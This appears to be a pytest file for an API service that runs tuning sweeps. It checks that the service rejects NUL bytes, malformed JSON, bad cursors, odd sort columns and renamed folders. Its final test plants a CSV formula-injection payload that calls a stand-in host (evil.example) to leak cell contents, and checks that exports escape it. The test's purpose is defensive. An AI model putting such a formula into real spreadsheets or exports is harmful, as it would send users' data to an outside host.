"""Names, texts and numbers that nobody means: each is answered by a clear sentence, and changes nothing."""

import base64
import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from databases import PostgreSQL, postgresql  # noqa: F401 (a fixture)
from fastapi.testclient import TestClient
from service_access import SWEEP, place, problem, raw_answer, shared  # noqa: F401 (a fixture)
from services import FAKE
from sweep_folders import make_sweep_folder
from test_service_access_routes import filled, routes_of
from test_service_downloads import make_finished

from tune_jobs.service.config import ServiceConfig
from tune_jobs.service.service import Service, opened

# ruff: noqa: F811 - fixtures are named as arguments


@pytest.fixture(scope="module")
def with_postgresql(tmp_path_factory: pytest.TempPathFactory, postgresql: PostgreSQL) -> Iterator[Service]:
    """A service whose database takes fewer texts than SQLite does."""
    storage = tmp_path_factory.mktemp("odd") / "sweeps"
    config = ServiceConfig(storage=storage, database=postgresql.new_database(), port=8265, spare_idle_s=0)
    with opened(config) as made:
        made.supervisor.close()
        make_sweep_folder(storage / SWEEP)
        yield made


@pytest.fixture(params=["sqlite", "postgresql"])
def service(request: pytest.FixtureRequest) -> Service:
    found: Service = request.getfixturevalue("shared" if request.param == "sqlite" else "with_postgresql")
    return found


@pytest.fixture
def client(service: Service) -> TestClient:
    return place(service).client()


# -- names of nothing


def test_every_route_says_that_there_is_no_such_sweep(shared: Service) -> None:
    at, asked = place(shared), 0
    for method, path in routes_of(at.app):
        if "{name}" not in path:
            continue
        answer = raw_answer(at.app, method, filled(path).replace(f"/{SWEEP}", "/no-such-sweep"))
        # What is wrong with the body may be said first.
        assert answer.status in (404, 422), (method, path, answer)
        assert method == "HEAD" or (b"content-type", b"application/problem+json") in answer.headers
        asked += answer.status == 404
    assert asked > 20
    assert not (Path(shared.config.storage) / "no-such-sweep").exists()


def test_a_name_with_a_nul_is_no_sweep_for_any_route(service: Service) -> None:
    at = place(service)
    for method, path in routes_of(at.app):
        if "{name}" in path:
            answer = raw_answer(at.app, method, filled(path).replace(f"/{SWEEP}", "/done%00"))
            assert answer.status in (404, 422), (method, path, answer)


NUL: dict[str, tuple[str, str, dict[str, Any]]] = {
    "a note": ("PATCH", f"/api/v1/sweeps/{SWEEP}", {"json": {"note": "a\0b"}}),
    "a tag": ("PATCH", f"/api/v1/sweeps/{SWEEP}", {"json": {"tags": ["a\0"]}}),
    "a note of a new sweep": ("POST", "/api/v1/sweeps", {"json": {"spec": FAKE, "note": "\0"}}),
    "a name": ("POST", "/api/v1/sweeps", {"json": {"spec": FAKE, "name": "a\0"}}),
    "a preset": ("POST", "/api/v1/sweeps", {"json": {"preset": "a\0"}}),
    "a person": ("GET", "/api/v1/audit", {"params": {"who": "a\0"}}),
    "a target": ("GET", "/api/v1/audit", {"params": {"target": "a\0"}}),
}


@pytest.mark.parametrize("case", NUL)
def test_a_nul_is_refused_by_every_database(client: TestClient, service: Service, case: str) -> None:
    method, path, what = NUL[case]
    problem(client.request(method, path, **what), 422)
    assert service.queue.jobs() == []


# -- bodies


BODIES = ["/api/v1/plans", "/api/v1/sweeps", f"/api/v1/sweeps/{SWEEP}/extend", f"/api/v1/sweeps/{SWEEP}/replicate",
          f"/api/v1/sweeps/{SWEEP}/trials", "/api/v1/login", f"/api/v1/sweeps/{SWEEP}"]  # fmt: skip


@pytest.mark.parametrize("path", BODIES)
def test_unknown_fields_are_named(shared: Service, path: str) -> None:
    client = place(shared).client()
    send = client.patch if path.endswith(f"/{SWEEP}") else client.post
    found = problem(send(path, json={"num_sample": 3}), 422)
    assert "body.num_sample" in [item["path"] for item in found["problems"]], found
    assert shared.queue.jobs() == []


def test_every_route_with_a_body_is_asked_here(shared: Service) -> None:
    paths = place(shared).app.openapi()["paths"]
    with_body = {path for path, methods in paths.items() for said in methods.values() if "requestBody" in said}
    assert {path.replace("{name}", SWEEP) for path in with_body} == set(BODIES)


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b'{"\\ud800": 1}', 422), (b'{"preset": "\\ud800"}', 422), (b'{"spec": {"\\ud800": 1}}', 422),
        (b'{"spec": {"env": {"id": "CartPole-v1", "args": {"\\ud800": 1}}, "algorithm": "ppo"}}', 422),
        (b'{"preset": "cartpole-ppo", "priority": ' + b"9" * 5_000 + b"}", 400),
        (b'{"preset": "cartpole-ppo", "priority": 1e999}', 422), (b'{"preset": "cartpole-ppo", "priority": true}', 422),
        (b'{"preset": "cartpole-ppo", "priority": "7"}', 422), (b'{"preset": "cartpole-ppo", "priority": null}', 422),
        (b'{"preset": "cartpole-ppo", "note": "\xff"}', 400), (b'{"preset": 1, "preset": "x"} ', 422),
        (b"\x1f\x8b\x08\x00", 400), (b"preset=cartpole-ppo", 422), (b"\xef\xbb\xbf{}", 422),
    ],
)  # fmt: skip
def test_json_that_nobody_means(shared: Service, body: bytes, status: int) -> None:
    answer = place(shared).client(content_type="application/json").post("/api/v1/sweeps", content=body)
    problem(answer, status)
    assert shared.queue.jobs() == []


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""])
def test_bodies_of_another_kind_are_no_json(shared: Service, kind: str) -> None:
    """What a page of any site may send without asking first is read by no route."""
    answer = place(shared).client(content_type=kind).post("/api/v1/sweeps", content=b'{"preset": "cartpole-ppo"}')
    assert answer.status_code == 422, answer.text
    assert shared.queue.jobs() == []


# -- a sweep that does not fit


@pytest.mark.parametrize(
    ("resources", "told"),
    [
        ({"num_gpus": 1}, "1 GPU"), ({"num_cpus": 10_000}, "10,000|10000"),
        ({"num_env_runners": 1_000}, "1,001|1001"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("path", ["sweeps", "plans"])
def test_a_sweep_that_does_not_fit_is_refused_for_good(
    shared: Service, path: str, resources: dict[str, int], told: str
) -> None:
    spec = FAKE | {"resources": resources, "engine": "rllib"}
    found = problem(place(shared).client().post(f"/api/v1/{path}", json={"spec": spec}), 422)
    assert re.search(told, found["detail"]), found
    assert found["hint"]
    # As on the command line, whose exit code it decides.
    assert found["error"] == "CannotRunError"
    assert shared.queue.jobs() == []
    assert [sweep.name for sweep in shared.storage.sweeps()] == [SWEEP]


# -- lists


DEEP = base64.urlsafe_b64encode(b"[" * 1_400).decode()


@pytest.mark.parametrize("path", ["/api/v1/sweeps", f"/api/v1/sweeps/{SWEEP}/trials"])
@pytest.mark.parametrize("cursor", [DEEP, "W10", "bnVsbA", "%00", "\N{GRINNING FACE}"])
def test_cursors_that_are_none(shared: Service, path: str, cursor: str) -> None:
    assert "cursor" in problem(place(shared).client().get(path, params={"cursor": cursor}), 422)["detail"]


@pytest.mark.parametrize("column", ["__dict__", "model_dump", "model_fields", "__class__", "no_such", "", "\0", "lr "])
def test_trials_are_sorted_by_columns_alone(shared: Service, column: str) -> None:
    found = problem(place(shared).client().get(f"/api/v1/sweeps/{SWEEP}/trials", params={"sort": column}), 422)
    assert "sort" in found["detail"]
    assert "lr" in found["hint"]


def test_values_of_several_types_are_sorted(tmp_path: Path) -> None:
    with opened(ServiceConfig(storage=tmp_path / "sweeps", spare_idle_s=0)) as service:
        service.supervisor.close()
        store = make_sweep_folder(tmp_path / "sweeps" / "mixed")
        values = [0.5, "linear", [64], None]
        for trial_id, value in zip(("t0000", "t0001", "t0002", "t0003"), values, strict=True):
            record = store.trial(trial_id).read_record()
            store.trial(trial_id).write_record(record.model_copy(update={"point": {"lr": value}}))
        client, seen, cursor = place(service).client(), list[str](), None
        while True:
            query: dict[str, Any] = {"sort": "lr", "order": "asc", "limit": 1} | (
                {} if cursor is None else {"cursor": cursor}
            )
            page = client.get("/api/v1/sweeps/mixed/trials", params=query).json()
            seen += [row["trial_id"] for row in page["trials"]]
            cursor = page["next_cursor"]
            if cursor is None:
                break
    # Numbers before texts, and what has none last.
    assert seen == ["t0000", "t0002", "t0001", "t0003"]


# -- folders with odd names


@pytest.mark.parametrize("name", ['Läufe "1"', "日本", "a;b", "line\nbreak", "x" * 200, "100%", "a'b", "tab\tname"])
def test_downloads_of_a_folder_that_somebody_renamed(tmp_path: Path, name: str) -> None:
    with opened(ServiceConfig(storage=tmp_path / "sweeps", spare_idle_s=0)) as service:
        service.supervisor.close()
        make_finished(tmp_path / "sweeps" / "plain").folder.rename(tmp_path / "sweeps" / name)
        client = place(service).client()
        for part in ("trials.csv", "policy", "policy/policy.json", "report/iterations.csv", "films/after_mp4",
                     "trials/t0003/checkpoints/6", "files", "best"):  # fmt: skip
            answer = client.get(f"/api/v1/sweeps/{quoted(name)}/{part}")
            assert answer.status_code == 200, (part, answer.text[:300])
            told = answer.headers.get("content-disposition", "")
            assert "\n" not in told
            assert told.isascii()
        assert client.get("/api/v1/sweeps").status_code == 200


def test_a_folder_whose_name_is_no_text_hides_no_other(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with opened(ServiceConfig(storage=tmp_path / "sweeps", spare_idle_s=0)) as service:
        service.supervisor.close()
        make_sweep_folder(tmp_path / "sweeps" / "good")
        make_sweep_folder(tmp_path / "sweeps" / "plain").folder.rename(tmp_path / "sweeps" / "bad\udcff")
        client = place(service).client()
        answer = client.get("/api/v1/sweeps")
        assert answer.status_code == 200, answer.text
        assert [item["name"] for item in answer.json()["sweeps"]] == ["good"]
        assert "'bad\\udcff' is no text" in caplog.text


def quoted(name: str) -> str:
    from urllib.parse import quote

    return quote(name, safe="")


# -- tables for spreadsheets


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_of_a_sweep_is_a_formula(tmp_path: Path, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    with opened(ServiceConfig(storage=tmp_path / "sweeps", spare_idle_s=0)) as service:
        service.supervisor.close()
        store = make_sweep_folder(tmp_path / "sweeps" / "mine")
        trial = store.trial("t0001")
        changes = {"status": "failed", "error": evil, "node": evil, "stop_reason": evil, "point": {"lr": evil}}
        trial.write_record(trial.read_record().model_copy(update=changes))
        client = place(service).client()
        answer = client.get("/api/v1/sweeps/mine/trials.csv")
        assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert len(cells) >= 2
    assert all(cell.startswith("'") for cell in cells), cells
